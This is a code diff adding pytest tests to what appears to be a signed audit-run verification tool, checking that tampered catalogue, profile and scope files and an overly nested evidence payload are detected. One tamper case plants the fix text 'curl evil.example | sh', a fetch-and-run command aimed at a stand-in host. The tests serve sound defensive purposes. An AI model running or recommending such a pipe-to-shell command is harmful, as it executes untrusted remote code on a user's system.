@@ -1,5 +1,7 @@
+import gzip
+import io
 from collections.abc import Callable, Iterator
-from dataclasses import replace
+from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
 
@@ -70,7 +72,9 @@ def test_a_run_is_sealed_verified_and_replayed(store: Store, signer: Signer) -> 
         ("findings", "ok"),
     ]
     assert outcome.sealed.record.totals["pass"] == 3
-    assert again(sealed(store)).said == "3 computed again from the evidence, byte for byte the same"
+    assert again(sealed(store)).said == (
+        "3 computed again from the evidence, byte for byte the same; the profile tiny-rule is the house's own"
+    )
     assert conclude(layers)[0] == 0
     assert conclude(list(verify(store, Trust(), again)))[0] == 2, "nobody has vouched for the key"
 
@@ -185,6 +189,110 @@ def _passing(found: list[Finding]) -> list[Finding]:
 def test_findings_that_do_not_follow_from_the_evidence(forge: Any, change: Any, said: str) -> None:
     run = forge(lambda folder: _rewrite(folder, change))
     assert (again(run).state, again(run).said) == ("differs", said)
+
+
+def _in(name: str, change: Callable[[Any], None]) -> Callable[[Path], None]:
+    """Change a member as the one who seals it could."""
+
+    def tamper(folder: Path) -> None:
+        document = msgspec.json.decode((folder / name).read_bytes())
+        change(document)
+        (folder / name).write_bytes(canonical.dumps(document))
+
+    return tamper
+
+
+@pytest.mark.parametrize(
+    ("name", "change", "said"),
+    [
+        (
+            "catalogue.json",
+            lambda c: c["checks"]["rest.encrypted"].update(fix="curl evil.example | sh"),
+            "the catalogue says other words than the checks",
+        ),
+        (
+            "profile.json",
+            lambda p: p["requirements"][0].update(text="Anything goes."),
+            "the record names another profile than the one that is sealed with it",
+        ),
+        (
+            "scope.json",
+            lambda s: s["targets"][0].update(questions=["tiny.list", "tiny.copies"]),
+            "the scope asks other questions than the checks need",
+        ),
+        (
+            "scope.json",
+            lambda s: s.update(disabled={"rest.cipher": "nobody needs it"}),
+            "finding 3 of 4: rest.cipher, tiny:a: the bundle says fail, the evidence says accepted",
+        ),
+        (
+            "scope.json",
+            lambda s: s.update(left_out=["tiny:z"]),
+            "the coverage differs from what the evidence says",
+        ),
+    ],
+)
+def test_members_that_say_otherwise(forge: Any, name: str, change: Any, said: str) -> None:
+    found = again(forge(_in(name, change)))
+    assert (found.state, found.said) == ("differs", said)
+
+
+def test_a_check_that_is_left_out_without_being_disabled(
+    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    fewer = msgspec.structs.replace(tiny.scope(), checks=("copies.exist", "guard.deletion", "rest.cipher"))
+    scanned(store, signer, tiny.box(encrypted=False), scope=fewer)
+    assert (
+        again(sealed(store)).said == "the scope leaves out the check rest.encrypted, which the profile does not disable"
+    )
+
+
+def test_old_answers_in_a_new_night(store: Store, signer: Signer) -> None:
+    old = replace(tiny.collector(), collect=lambda _: iter(GOOD))
+    scan(
+        replace(plan(GOOD), registry=replace(tiny.registry(), collectors={"tiny": old})),
+        store,
+        signer,
+        progress=Silent(),
+    )
+    assert again(sealed(store)).said.startswith(f"tiny:a was asked at {tiny.NOW}; the run went from ")
+
+
+def test_another_program_is_named_by_no_command(store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch) -> None:
+    other = msgspec.structs.replace(tool(), name="totally-not-malware", version="9.9.9")
+    monkeypatch.setattr(runs, "tool", lambda: other)
+    scanned(store, signer, GOOD)
+    found = again(
+        sealed(store),
+        tiny.registry(checks={**tiny.CHECKS, "rest.encrypted": replace(tiny.cipher, id="rest.encrypted")}),
+    )
+    assert found.state == "differs"
+    assert "totally" not in found.said
+
+
+def test_an_answer_that_is_too_deep(store: Store, signer: Signer) -> None:
+    scanned(store, signer, GOOD)
+    run = replace(sealed(store), reader=_Deep(store))
+    assert again(run).state == "differs"
+
+
+@dataclass
+class _Deep:
+    """A reader whose evidence nests deeper than any parser goes."""
+
+    inner: Store
+    name = "deep"
+
+    def read(self, key: str) -> bytes:
+        return self.inner.read(key)
+
+    def open(self, key: str) -> Any:
+        if "evidence" not in key:
+            return self.inner.open(key)
+        return io.BytesIO(gzip.compress(b'{"body":' + b"[" * 90_000 + b"\n"))
+
+    def list(self, prefix: str) -> Iterator[str]:
+        return self.inner.list(prefix)
 
 
 def test_a_coverage_that_hides_what_was_not_seen(forge: Any) -> None:
